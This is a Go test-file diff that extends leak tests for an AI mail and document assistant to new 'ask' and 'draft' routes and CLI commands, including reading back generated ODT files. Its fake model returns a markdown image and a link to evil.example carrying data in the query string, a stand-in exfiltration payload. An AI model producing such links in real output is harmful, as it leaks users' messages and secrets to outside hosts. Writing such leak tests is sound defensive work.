@@ -32,6 +32,7 @@ import (
 	"github.com/plume-admin/plume/addin"
 	"github.com/plume-admin/plume/assist/fakellm"
 	"github.com/plume-admin/plume/config"
+	"github.com/plume-admin/plume/internal/docwrite"
 )
 
 const leakToken = "leak-test-token-0123456789"
@@ -102,7 +103,7 @@ var (
 func leakModel(r fakellm.Request) fakellm.Response {
 	echo := placeholder.FindString(r.Prompt())
 	text := "Demande de " + echo + ". ![x](http://evil.example/p.png?d=1) Voir http://evil.example/collect?d=2"
-	b, _ := json.Marshal(map[string]any{"summary": text, "keyPoints": []string{text}})
+	b, _ := json.Marshal(map[string]any{"summary": text, "keyPoints": []string{text}, "objet": text, "corps": []string{text}})
 	return fakellm.Response{Text: string(b)}
 }
 
@@ -208,6 +209,35 @@ var apiRoutes = map[string][]apiCase{
 	"POST /api/v1/thread/summary": {threadRoute("/api/v1/thread/summary", false), threadRoute("/api/v1/thread/summary", true)},
 	"POST /api/v1/thread/reply":   {threadRoute("/api/v1/thread/reply", false), threadRoute("/api/v1/thread/reply", true)},
 	"POST /api/v1/actions/{name}": {threadRoute("/api/v1/actions/note", false)},
+	"POST /api/v1/thread/ask": {
+		func(t *testing.T, base, mime string) outcome {
+			return postJSON(t, base+"/api/v1/thread/ask", map[string]any{"message": rawRef(mime), "question": "Que demande Claire Martin ?"}, false)
+		},
+		func(t *testing.T, base, mime string) outcome {
+			return postJSON(t, base+"/api/v1/thread/ask", map[string]any{"message": rawRef(mime), "question": "Quel est le code ?"}, true)
+		},
+	},
+	"POST /api/v1/draft": {
+		func(t *testing.T, base, mime string) outcome {
+			return postJSON(t, base+"/api/v1/draft", map[string]any{"message": rawRef(mime), "options": map[string]any{"kind": "note", "to": "Claire Martin", "format": "docx"}}, false)
+		},
+		func(t *testing.T, base, mime string) outcome {
+			return postJSON(t, base+"/api/v1/draft", map[string]any{"message": rawRef(mime), "options": map[string]any{"instructions": "écrire à claire.martin@mairie-exemple.fr"}}, true)
+		},
+		// the file itself, read back: what the agent opens
+		func(t *testing.T, base, mime string) outcome {
+			b, _ := json.Marshal(map[string]any{"message": rawRef(mime)})
+			req, _ := http.NewRequest("POST", base+"/api/v1/draft", bytes.NewReader(b))
+			req.Header.Set("Authorization", "Bearer "+leakToken)
+			req.Header.Set("Content-Type", "application/json")
+			req.Header.Set("Accept", "application/vnd.oasis.opendocument.text")
+			o := send(t, req)
+			if !o.refused {
+				o.output = odtText(t, []byte(o.output))
+			}
+			return o
+		},
+	},
 	"POST /api/v1/attachment/summary": {
 		// the first attachment of the message, by part path
 		func(t *testing.T, base, mime string) outcome {
@@ -272,6 +302,31 @@ var cliCommands = map[string][]cliCase{
 			return runCLI(t, "summarize", "--config", e.config, "--json", path)
 		},
 	},
+	"ask": {
+		func(t *testing.T, e *leakEnv, _ bool, path string) outcome {
+			return runCLI(t, "ask", "--config", e.config, path, "Que demande Claire Martin ?")
+		},
+		func(t *testing.T, e *leakEnv, _ bool, path string) outcome {
+			return runCLI(t, "ask", "--config", e.config, "--json", path, "Quel est le code ?")
+		},
+	},
+	"draft": {
+		func(t *testing.T, e *leakEnv, _ bool, path string) outcome {
+			out := filepath.Join(t.TempDir(), "courrier.odt")
+			o := runCLI(t, "draft", "--config", e.config, "--to", "Madame Claire Martin", "-o", out, path)
+			if !o.refused {
+				b, err := os.ReadFile(out)
+				if err != nil {
+					t.Fatal(err)
+				}
+				o.output += odtText(t, b)
+			}
+			return o
+		},
+		func(t *testing.T, e *leakEnv, _ bool, path string) outcome {
+			return runCLI(t, "draft", "--config", e.config, "--kind", "note", "--json", "-o", "-", path)
+		},
+	},
 	"reply": {
 		func(t *testing.T, e *leakEnv, mail bool, path string) outcome {
 			if !mail {
@@ -280,6 +335,16 @@ var cliCommands = map[string][]cliCase{
 			return runCLI(t, "reply", "--config", e.config, "--instructions", "répondre à claire.martin@mairie-exemple.fr", path)
 		},
 	},
+}
+
+// odtText is the content.xml of an ODT file: what a reader shows.
+func odtText(t *testing.T, b []byte) string {
+	t.Helper()
+	x, err := docwrite.ReadEntry(b, "content.xml")
+	if err != nil {
+		t.Fatalf("not an ODT file: %v", err)
+	}
+	return string(x)
 }
 
 // cliNoModel are the commands that never reach a model, and why.
